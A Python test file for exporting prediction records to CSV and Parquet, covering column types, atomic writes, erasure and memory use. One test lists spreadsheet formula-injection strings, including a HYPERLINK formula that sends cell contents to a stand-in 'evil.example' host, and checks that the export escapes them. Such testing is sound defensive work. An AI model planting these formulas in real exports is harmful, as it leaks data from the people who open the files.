"""Export: a table with one type a column, whole or not at all, that no spreadsheet runs."""

import csv
import json
import tracemalloc
from collections.abc import Mapping
from contextlib import closing
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from pyarrow import parquet
from sqlalchemy import Engine

from app.errors import RecordsError
from app.record_events import Entry, Erasure, Event, moment
from app.records import export as module
from app.records.database import snapshot
from app.records.export import type_of, write_export
from app.records.ledger import Ledger
from app.records.tables import claims, marks, referrals, rollups
from dubito.types import MAX_SEED

DTYPES = {"text": "string", "integer": "int64", "real": "double", "boolean": "bool"}
MODEL = {"name": "loan-grade", "version": 3, "digest": "sha256:0"}
JUDGED = {"coverage": 0.9, "method": "lac", "class_conditional": False, "target": 0.05}


def prediction(
    number: int,
    features: Mapping[str, Any],
    reference: str | None = None,
    answer: Mapping[str, Any] | None = None,
    **body: Any,
) -> Entry:
    """A recorded prediction."""
    given = {"endpoint": "/predict", "environment": "sha256:1", "model": MODEL, "warnings": []}
    told = {**given, **body, "answer": answer or {"grade": "A", "probabilities": {"A": 0.75}}}
    personal = json.dumps({"features": features, "reference": reference}).encode()
    whole = json.dumps(told).encode()
    return Entry((Event("prediction", f"p{number}", 10 * number, whole, personal, reference),))


def asked(passes: int | str, tolerance: float | None, judged: Mapping[str, Any] | None) -> Any:
    return {"passes": passes, "tolerance": tolerance, "degrade": False, "judged": judged}


def drawn(seed: int, *, is_judged: bool, tolerance: float | None) -> dict[str, Any]:
    """An answer by Monte Carlo."""
    return {
        "grade": "A",
        "mean": {"A": 1.0},
        "passes": 100,
        "seed": seed,
        "precision": {
            "half_width": 0.01,
            "tolerance": tolerance,
            "met": None if tolerance is None else True,
        },
        "prediction_set": {"coverage": 0.9, "grades": ["A", "B"]} if is_judged else None,
        "decision": {"action": "refer", "reasons": [], "target": 0.05} if is_judged else None,
    }


MIXED = [
    prediction(1, {"a.b": 1, "id": None}, "=1+1", warnings=[{"kind": "missing", "feature": "ü"}]),
    prediction(
        2,
        {"time": 0.1, "id": -2.5},
        "case 7",
        drawn(MAX_SEED, is_judged=True, tolerance=None),
        asked=asked(100, None, JUDGED),
    ),
    prediction(
        3,
        {"대출금액": 5, "outcome": 1e300},
        "-7",
        drawn(5, is_judged=False, tolerance=0.02),
        asked=asked("auto", 0.02, None),
    ),
    Entry((Event("outcome", "p2", 5, b'{"grade":"B"}'),)),
    Entry((Event("review", "p2", 6, b'{"grade":"C"}', b'{"note":"","reviewer":"Kim"}'),)),
]
EXPECTED: dict[str, list[Any]] = {
    "id": ["p1", "p2", "p3"],
    "time": [moment(at) for at in (10, 20, 30)],
    "reference": ["=1+1", "case 7", "-7"],
    "feature.a.b": [1.0, None, None],
    "feature.id": [None, -2.5, None],
    "feature.time": [None, 0.1, None],
    "feature.대출금액": [None, None, 5.0],
    "feature.outcome": [None, None, 1e300],
    "asked.passes": [None, "100", "auto"],
    "asked.tolerance": [None, None, 0.02],
    "asked.judged.coverage": [None, 0.9, None],
    "answer.seed": [None, MAX_SEED, 5],
    "answer.precision.met": [None, None, True],
    "answer.prediction_set.grades": [None, '["A", "B"]', None],
    "warnings": ['[{"kind": "missing", "feature": "ü"}]', "[]", "[]"],
    "outcome": [None, "B", None],
    "review": [None, "C", None],
}


def exported(engine: Engine, file: Path) -> Path:
    with snapshot(engine) as connection:
        write_export(connection, file)
    return file


@pytest.fixture
def mixed(engine: Engine, ledger: Ledger) -> Engine:
    """Predictions of several bundles, asked for in several ways, with what was said of one."""
    ledger.write(MIXED)
    return engine


def test_parquet_has_one_type_a_column(mixed: Engine, tmp_path: Path) -> None:
    """As stated, whatever some rows have; features called as other columns hide none."""
    table = parquet.read_table(exported(mixed, tmp_path / "all.parquet"))
    told = table.to_pydict()
    assert EXPECTED == {name: told[name] for name in EXPECTED}
    expected = {
        name: "double" if name.startswith("feature.") else DTYPES[type_of(name)]
        for name in table.column_names
    }
    assert expected == {field.name: str(field.type) for field in table.schema}
    assert not {"asked.judged", "answer.decision"} & set(table.column_names)


def test_csv_reads_the_same(mixed: Engine, tmp_path: Path) -> None:
    """By Python's own reader and by pandas: the text, which a mark says is UTF-8, and numbers."""
    file = exported(mixed, tmp_path / "all.csv")
    assert file.read_bytes().startswith(b"\xef\xbb\xbfid,time,reference,feature.")
    with file.open(encoding="utf-8-sig", newline="") as opened:
        lines = list(csv.DictReader(opened))
    frame = pd.read_csv(file, dtype={"answer.seed": "Int64", "asked.passes": "string"})
    for name, values in EXPECTED.items():
        if name == "reference":
            assert ["'=1+1", "case 7", "-7"] == [line[name] for line in lines]
            continue
        assert ["" if value is None else str(value) for value in values] == [
            line[name] for line in lines
        ]
        known = [None if pd.isna(value) else value for value in frame[name]]
        assert values == known


CELLS = {
    '=HYPERLINK("http://evil.example/?"&B2)': '\'=HYPERLINK("http://evil.example/?"&B2)',
    "+82-10-0000-0000": "'+82-10-0000-0000",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "-2+3": "'-2+3",
    "  =1+1": "'  =1+1",
    "\t=1": "'\t=1",
    "\rcase": "'\rcase",
    "\uff1d1+1": "'\uff1d1+1",
    "\uff20x": "'\uff20x",
    "-12.5": "-12.5",
    "+7": "+7",
    "case=7": "case=7",
    "[1]": "[1]",
    "": "",
}
"""Text, and what it is in CSV."""


def test_no_cell_is_run(engine: Engine, ledger: Ledger, tmp_path: Path) -> None:
    """Text that a spreadsheet takes for a formula follows an apostrophe; a number is a number."""
    ledger.write([prediction(at, {"a": -1.5}, text) for at, text in enumerate(CELLS)])
    with exported(engine, tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as opened:
        lines = list(csv.DictReader(opened))
    assert list(CELLS.values()) == [line["reference"] for line in lines]
    assert {"-1.5"} == {line["feature.a"] for line in lines}


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_no_predictions_are_an_empty_table(engine: Engine, tmp_path: Path, ending: str) -> None:
    """With the columns that every export has."""
    file = exported(engine, tmp_path / f"none.{ending}")
    frame = pd.read_csv(file) if ending == "csv" else pd.read_parquet(file)
    assert (["id", "time", "reference", "outcome", "review"], 0) == (list(frame), len(frame))


def test_what_was_erased_is_empty(mixed: Engine, ledger: Ledger, tmp_path: Path) -> None:
    ledger.erase(Erasure(reference="case 7"))
    told = parquet.read_table(exported(mixed, tmp_path / "all.parquet")).to_pydict()
    assert [None] * 3 == told["feature.id"]
    assert ["=1+1", None, "-7"] == told["reference"]
    assert "feature.time" not in told


def test_records_of_the_oldest_schema_are_exported(mixed: Engine, tmp_path: Path) -> None:
    """It had chains, events and replies alone."""
    with mixed.begin() as connection:
        for table in (claims, referrals, rollups, marks):
            table.drop(connection)
    told = parquet.read_table(exported(mixed, tmp_path / "all.parquet")).to_pydict()
    assert EXPECTED == {name: told[name] for name in EXPECTED}


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_a_file_appears_whole_or_not_at_all(
    mixed: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, ending: str
) -> None:
    """The one before it stays until then; nobody else may read it."""
    file = tmp_path / f"all.{ending}"
    file.write_text("the one before")
    lines, seen = module._lines, list[list[str]]()  # noqa: SLF001 - to end it halfway

    def broken(*arguments: Any) -> Any:
        with closing(lines(*arguments)) as whole:
            yield next(whole)
        seen.append([one.name for one in tmp_path.iterdir()])
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr(module, "_lines", broken)
        with pytest.raises(RecordsError, match="No space left on device"):
            exported(mixed, file)
    assert "the one before" == file.read_text()
    assert 2 <= len(seen[0])
    exported(mixed, file)
    assert 0o600 == file.stat().st_mode & 0o777
    assert {file.name} == {one.name for one in tmp_path.iterdir() if one.name.find("all") >= 0}


def test_a_value_of_another_type_is_told(engine: Engine, ledger: Ledger, tmp_path: Path) -> None:
    """In a sentence that does not say it."""
    ledger.write([prediction(1, {"a": 1}, answer={"grade": "A", "mean": {"A": "secret"}})])
    with pytest.raises(RecordsError, match=r"no number in answer\.mean\.A") as told:
        exported(engine, tmp_path / "all.parquet")
    assert "secret" not in str(told.value)


def test_a_feature_has_the_type_of_its_values(
    engine: Engine, ledger: Ledger, tmp_path: Path
) -> None:
    """Numbers, truths or texts; text where bundles differ, and numbers where all are missing."""
    ledger.write(
        [
            prediction(1, {"home": "rent", "joint": True, "term": 36, "age": None}),
            prediction(2, {"home": None, "joint": None, "term": "long", "age": None}),
        ]
    )
    table = parquet.read_table(exported(engine, tmp_path / "all.parquet"))
    types = {
        field.name: str(field.type) for field in table.schema if field.name.startswith("feature.")
    }
    assert types == {
        "feature.home": "string",
        "feature.joint": "bool",
        "feature.term": "string",
        "feature.age": "double",
    }
    assert ["36", "long"] == table.column("feature.term").to_pylist()
    assert ["rent", None] == table.column("feature.home").to_pylist()


@pytest.mark.parametrize("ending", ["csv", "parquet"])
def test_memory_does_not_grow_with_the_table(
    engine: Engine, ledger: Ledger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, ending: str
) -> None:
    """Ten times the rows take about the same."""
    monkeypatch.setattr(module, "EXPORTED_ROWS", 30)
    random, most = np.random.default_rng(0), []
    for first, last in ((0, 150), (150, 1_500)):
        ledger.write(
            [prediction(at, {"a": random.random()}, f"case {at}") for at in range(first, last)]
        )
        exported(engine, tmp_path / f"warm.{ending}")
        tracemalloc.start()
        exported(engine, tmp_path / f"all.{ending}")
        most.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert most[1] < 1.5 * most[0] + 200_000
